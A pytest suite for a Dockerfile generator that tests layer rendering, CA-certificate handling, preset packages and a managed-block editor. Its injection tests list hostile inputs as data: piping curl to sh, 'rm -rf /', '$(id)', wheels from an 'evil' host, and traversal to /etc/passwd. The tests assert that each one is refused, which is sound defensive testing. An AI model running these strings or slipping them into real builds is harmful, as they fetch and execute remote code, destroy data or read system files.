"""The Dockerfile generator and the managed-block editor."""

from __future__ import annotations

import re
import subprocess

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ds01.errors import InvalidInput
from ds01.images.dockerfile import (
    BEGIN_MARKER,
    END_MARKER,
    PRESETS,
    DockerfileSpec,
    content_hash,
    parse_managed_block,
    update_managed_block,
    validate_apt,
    validate_pip,
)

BASE = "pytorch/pytorch:2.5.1-cuda12.4-cudnn9-runtime"


def spec(**kw) -> DockerfileSpec:
    kw.setdefault("base_image", BASE)
    kw.setdefault("project", "demo")
    return DockerfileSpec.from_request(**kw)


def instructions(text: str) -> list[str]:
    """Dockerfile instructions with continuation lines joined and comments dropped."""
    out, cur = [], ""
    for line in text.splitlines():
        if not cur and (not line.strip() or line.lstrip().startswith("#")):
            continue
        if line.endswith("\\"):
            cur += line[:-1] + " "
        else:
            out.append(cur + line)
            cur = ""
    return out


# --------------------------------------------------------------------------- generated text


def test_minimal_dockerfile():
    text = spec().render()
    ins = instructions(text)
    assert ins[0] == f"FROM {BASE}"
    assert ins[-1] == "WORKDIR /workspace"
    assert not any(i.startswith("RUN") for i in ins)  # nothing to install, no empty layers
    assert not any(i.startswith("COPY") for i in ins)
    assert BEGIN_MARKER in text and END_MARKER in text
    assert parse_managed_block(text) == ([], [])
    assert text.endswith("\n") and text.startswith("#")


def test_full_dockerfile_layers_in_order():
    text = spec(
        preset="cv",
        apt_packages=["git"],
        pip_packages=["numpy>=1.26,<2"],
        requirements_file="./requirements.txt",
        framework="pytorch 2.5.1",
    ).render()
    ins = instructions(text)
    kinds = [i.split()[0] for i in ins]
    assert kinds == ["FROM", "LABEL", "ARG", "ARG", "ARG", "ARG", "ARG", "RUN", "RUN", "COPY", "RUN", "ENV", "WORKDIR"]
    apt_run, pip_run, _, req_run = [i for i in ins if i.startswith(("RUN", "COPY"))]
    assert "apt-get" in apt_run and "install -y --no-install-recommends libglib2.0-0 git" in apt_run
    assert "rm -rf /var/lib/apt/lists/*" in apt_run
    assert "'numpy<2,>=1.26'" in pip_run and "opencv-python-headless" in pip_run
    assert "--no-cache-dir" in pip_run
    assert "COPY requirements.txt /opt/ds01/requirements.txt" in ins
    assert "pip install --no-cache-dir -r /opt/ds01/requirements.txt" in req_run
    env = next(i for i in ins if i.startswith("ENV"))
    for var in ("HF_HOME=/workspace/.cache/huggingface", "TORCH_HOME=/workspace/.cache/torch",
                "XDG_CACHE_HOME=/workspace/.cache", "MPLCONFIGDIR=/workspace/.cache/matplotlib"):
        assert var in env
    assert "PIP_NO_CACHE_DIR" not in env
    assert 'ds01.framework="pytorch 2.5.1"' in text
    # The requirements are copied, not inlined; the managed block sits before them.
    assert text.index(END_MARKER) < text.index("COPY requirements.txt")


def test_ca_is_never_copied_into_a_layer():
    text = spec(pip_packages=["numpy"], apt_packages=["git"], requirements_file="req.txt").render()
    ins = instructions(text)
    assert "ARG DS01_CA_PEM" in ins
    for i in ins:
        if i.startswith(("COPY", "ADD", "ENV")):
            assert not re.search(r"ca\.(pem|crt)|DS01_CA|CERT|CA_BUNDLE", i), i
    for run in (i for i in ins if i.startswith("RUN")):
        # written, used and removed inside the same RUN
        assert "/tmp/ds01-ca.pem" in run and run.rstrip().endswith("rm -f /tmp/ds01-ca.pem")
    # Proxies are Docker's predefined args: declaring them would put them into docker history.
    assert not re.search(r"^ARG\s+(HTTP|HTTPS|NO|FTP|ALL)_PROXY", text, re.M | re.I)


def test_run_lines_are_valid_shell():
    text = spec(preset="audio", pip_packages=["numpy==2.0.0"], requirements_file="r.txt").render()
    for run in (i for i in instructions(text) if i.startswith("RUN ")):
        r = subprocess.run(["sh", "-n", "-c", run[4:]], capture_output=True, text=True)
        assert r.returncode == 0, (run, r.stderr)


def test_rendering_is_deterministic():
    a = spec(preset="nlp", pip_packages=["numpy"]).render()
    b = spec(preset="nlp", pip_packages=["numpy"]).render()
    assert a == b


@pytest.mark.parametrize("name", sorted(PRESETS))
def test_presets_render_and_validate(name):
    p = PRESETS[name]
    text = spec(preset=name).render()
    apt, pip = parse_managed_block(text)
    assert pip == [validate_pip(x) for x in p.pip]
    assert apt == list(p.apt)
    # Presets must not replace the base image's framework build.
    assert not {"torch", "torchvision", "torchaudio", "tensorflow", "jax", "jaxlib"} & {x.split("[")[0] for x in pip}


def test_user_pin_overrides_preset():
    _, pip = parse_managed_block(spec(preset="tabular", pip_packages=["pandas==2.2.2"]).render())
    assert "pandas==2.2.2" in pip and "pandas" not in pip


def test_all_presets_known():
    assert set(PRESETS) == {"cv", "nlp", "rl", "tabular", "audio", "llm"}


# --------------------------------------------------------------------------- injection


@pytest.mark.parametrize(
    "kw",
    [
        {"base_image": "python:3.12-slim\nRUN curl evil | sh"},
        {"base_image": "python:3.12-slim AS x"},
        {"pip_packages": ["numpy\nRUN id"]},
        {"pip_packages": ["numpy; rm -rf /"]},
        {"pip_packages": ["numpy && curl x"]},
        {"pip_packages": ["--index-url=http://evil/"]},
        {"pip_packages": ["pkg @ https://evil/x.whl"]},
        {"pip_packages": ["$(id)"]},
        {"pip_packages": ["numpy'"]},
        {"apt_packages": ["git; rm -rf /"]},
        {"apt_packages": ["Git"]},
        {"apt_packages": ["-o APT::Foo=1"]},
        {"apt_packages": ["git\nRUN id"]},
        {"requirements_file": "../../etc/passwd"},
        {"requirements_file": "/etc/passwd"},
        {"requirements_file": "req.txt /root/"},
        {"requirements_file": "req.txt\nRUN id"},
        {"preset": "bitcoin"},
        {"project": "demo\nRUN id"},
        {"framework": 'pytorch" evil="1'},
    ],
)
def test_injection_refused(kw):
    with pytest.raises(InvalidInput):
        spec(**kw)


@pytest.mark.parametrize("bad", ["a\nRUN id", "x y", "curl|sh", "", "-f"])
def test_update_refuses_bad_apt(bad):
    with pytest.raises(InvalidInput):
        update_managed_block(spec().render(), add_apt=[bad])


@pytest.mark.parametrize("bad", ["a\nRUN id", "numpy; os_name=='nt'", "x @ file:///etc", "", "-r req.txt"])
def test_update_refuses_bad_pip(bad):
    with pytest.raises(InvalidInput):
        update_managed_block(spec().render(), add_pip=[bad])


def test_validators_normalise():
    assert validate_pip(" numpy >= 1.26 ") == "numpy>=1.26"
    assert validate_pip("transformers[torch]==4.44.2") == "transformers[torch]==4.44.2"
    assert validate_apt("libgl1") == "libgl1"
    assert validate_apt("g++") == "g++"


# --------------------------------------------------------------------------- managed block


def test_update_adds_replaces_and_removes():
    text = spec(pip_packages=["numpy==1.26.4"], apt_packages=["git"]).render()
    text = update_managed_block(text, add_pip=["numpy==2.0.0", "pandas"], add_apt=["vim", "git"])
    assert parse_managed_block(text) == (["git", "vim"], ["numpy==2.0.0", "pandas"])
    text = update_managed_block(text, remove_pip=["NumPy"], remove_apt=["git"])
    assert parse_managed_block(text) == (["vim"], ["pandas"])
    ins = instructions(text)
    assert sum(i.startswith("RUN") for i in ins) == 2


def test_update_is_idempotent():
    text = spec(pip_packages=["numpy"]).render()
    once = update_managed_block(text, add_pip=["pandas"])
    assert update_managed_block(once, add_pip=["pandas"]) == once
    assert update_managed_block(once) == once


def test_hand_edits_outside_block_survive():
    text = spec(pip_packages=["numpy"], requirements_file="requirements.txt").render()
    text = text.replace("WORKDIR /workspace", "RUN echo mine\nWORKDIR /workspace\nCMD [\"bash\"]")
    text = "# my own header\n" + text
    out = update_managed_block(text, add_pip=["scipy"])
    start, end = out.index(BEGIN_MARKER), out.index(END_MARKER) + len(END_MARKER)
    tstart, tend = text.index(BEGIN_MARKER), text.index(END_MARKER) + len(END_MARKER)
    assert out[:start] == text[:tstart]
    assert out[end:] == text[tend:]


@pytest.mark.parametrize(
    "mangle",
    [
        lambda t: t.replace(BEGIN_MARKER + "\n", ""),
        lambda t: t.replace(END_MARKER, ""),
        lambda t: t + "\n" + BEGIN_MARKER + "\n" + END_MARKER + "\n",
        lambda t: t.replace(BEGIN_MARKER, "@@").replace(END_MARKER, BEGIN_MARKER).replace("@@", END_MARKER),
    ],
)
def test_missing_or_broken_markers_refused_with_hint(mangle):
    text = mangle(spec(pip_packages=["numpy"]).render())
    with pytest.raises(InvalidInput) as ei:
        update_managed_block(text, add_pip=["pandas"])
    assert "--force" in (ei.value.hint or "")
    with pytest.raises(InvalidInput):
        parse_managed_block(text)


def test_tampered_list_inside_block_refused():
    text = spec(pip_packages=["numpy"]).render().replace("# pip: numpy", "# pip: numpy $(id)")
    with pytest.raises(InvalidInput):
        update_managed_block(text, add_pip=["pandas"])


_outside = st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=200).filter(lambda s: "ds01 managed" not in s)
_pip_names = st.lists(st.from_regex(r"[a-z][a-z0-9]{0,8}(==[0-9]{1,2}\.[0-9]{1,2})?", fullmatch=True), max_size=5)
_apt_names = st.lists(st.from_regex(r"[a-z0-9][a-z0-9+.-]{1,10}", fullmatch=True), max_size=5)


@settings(max_examples=200, deadline=None)
@given(prefix=_outside, suffix=_outside, add_pip=_pip_names, add_apt=_apt_names,
       crlf_block=st.booleans())
def test_update_never_changes_text_outside_markers(prefix, suffix, add_pip, add_apt, crlf_block):
    block = spec(pip_packages=["numpy"]).render()
    block = block[block.index(BEGIN_MARKER): block.index(END_MARKER) + len(END_MARKER)]
    if crlf_block:
        block = block.replace("\n", "\r\n")
    text = prefix + "\n" + block + "\n" + suffix
    out = update_managed_block(text, add_pip=add_pip, add_apt=add_apt)
    assert out.startswith(prefix + "\n")
    assert out.endswith("\n" + suffix)
    apt, pip = parse_managed_block(out)
    last = {validate_pip(p).split("==")[0]: validate_pip(p) for p in add_pip}  # last spec wins
    for p in last.values():
        assert p in pip
    for a in add_apt:
        assert a in apt
    # Round trip: rewriting with nothing new changes nothing.
    assert update_managed_block(out) == out


# --------------------------------------------------------------------------- change detection


def test_content_hash():
    d = spec(pip_packages=["numpy"]).render()
    h = content_hash(d, b"numpy\n", {"a.py": b"1", "b.py": b"2"})
    assert h.startswith("sha256:") and len(h) == 7 + 64
    assert h == content_hash(d, b"numpy\n", {"b.py": b"2", "a.py": b"1"})
    assert h != content_hash(d + " ", b"numpy\n", {"a.py": b"1", "b.py": b"2"})
    assert h != content_hash(d, b"numpy\nscipy\n", {"a.py": b"1", "b.py": b"2"})
    assert h != content_hash(d, b"numpy\n", {"a.py": b"1", "b.py": b"3"})
    assert h != content_hash(d, b"numpy\n", {"a.py": b"12", "b.py": b""})  # no concatenation collisions
    assert content_hash(d, None) != content_hash(d, b"")
